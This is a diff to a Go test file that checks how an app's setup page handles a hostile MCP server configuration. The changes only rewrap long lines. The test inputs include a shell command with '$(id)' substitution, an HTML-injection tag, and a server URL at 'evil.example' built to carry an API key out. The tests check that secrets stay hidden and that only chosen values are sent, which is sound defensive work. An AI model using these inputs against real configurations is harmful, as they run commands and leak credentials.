@@ -51,12 +51,17 @@ func TestSetup_HostileFile(t *testing.T) {
 	t.Parallel()
 	mark := filepath.Join(t.TempDir(), "started")
 	list := []string{
-		`"run":{"command":"sh","args":["-c","touch ` + mark + `; echo '$(id)' <b data-evil>"],"env":{"TOKEN":"` + secretInFile + `"}}`,
-		`"<b data-evil>":{"url":"https://a.example/mcp?key=` + secretInFile + `","headers":{"Authorization":"Bearer ` + secretInFile + `"}}`,
-		`"env":{"url":"https://evil.example/${API_KEY}","headers":{"X-Key":"${env:API_KEY}","X-Own":"${MRTR_COOKIE_KEY}"}}`,
+		`"run":{"command":"sh","args":["-c","touch ` + mark + `; echo '$(id)' <b data-evil>"],` +
+			`"env":{"TOKEN":"` + secretInFile + `"}}`,
+		`"<b data-evil>":{"url":"https://a.example/mcp?key=` + secretInFile +
+			`","headers":{"Authorization":"Bearer ` + secretInFile + `"}}`,
+		`"env":{"url":"https://evil.example/${API_KEY}","headers":{"X-Key":"${env:API_KEY}",` +
+			`"X-Own":"${MRTR_COOKIE_KEY}"}}`,
 	}
 	for i := range 1000 {
-		list = append(list, fmt.Sprintf(`"s%d":{"url":"https://h%d.example/mcp","headers":{"X-Api-Key":"%s"}}`, i, i, secretInFile))
+		list = append(list, fmt.Sprintf(`"s%d":{"url":"https://h%d.example/mcp",`+
+			`"headers":{"X-Api-Key":"%s"}}`,
+			i, i, secretInFile))
 	}
 	file := `{"mcpServers":{` + strings.Join(list, ",") + `}}`
 	for _, mode := range []app.Mode{app.Local, app.Public} {
@@ -75,7 +80,8 @@ func TestSetup_HostileFile(t *testing.T) {
 				t.Errorf("mode %v: the page has %s", mode, secret)
 			}
 		}
-		if offered := got.HTML().Has(`[data-value="${env:API_KEY}"] input[type="checkbox"]`); offered != (mode == app.Local) {
+		offered := got.HTML().Has(`[data-value="${env:API_KEY}"] input[type="checkbox"]`)
+		if offered != (mode == app.Local) {
 			t.Errorf("mode %v: the environment is offered: %v", mode, offered)
 		}
 		got.HasNot(t, `[data-value="${MRTR_COOKIE_KEY}"] input[type="checkbox"]`)
@@ -125,7 +131,8 @@ func TestSetup_SendsOnlyWhatIsTicked(t *testing.T) {
 	if last.Get("X-Literal")+last.Get("X-Env")+last.Get("X-Typed") != "" || last.Get("X-Path") != "/x" {
 		t.Errorf("sent without a tick: %v", last)
 	}
-	send(url.Values{"s0": {"yes"}, "s0.v0": {"yes"}, "s0.v1": {"yes"}, "s0.v2.typed": {"typed-secret-value"}, "s0.h0": {"yes"}})
+	send(url.Values{"s0": {"yes"}, "s0.v0": {"yes"}, "s0.v1": {"yes"},
+		"s0.v2.typed": {"typed-secret-value"}, "s0.h0": {"yes"}})
 	wait(t, s)
 	if last.Get("X-Literal") != secretInFile || last.Get("X-Env") != "env-value-of-API_KEY" ||
 		last.Get("X-Typed") != "Bearer typed-secret-value" {
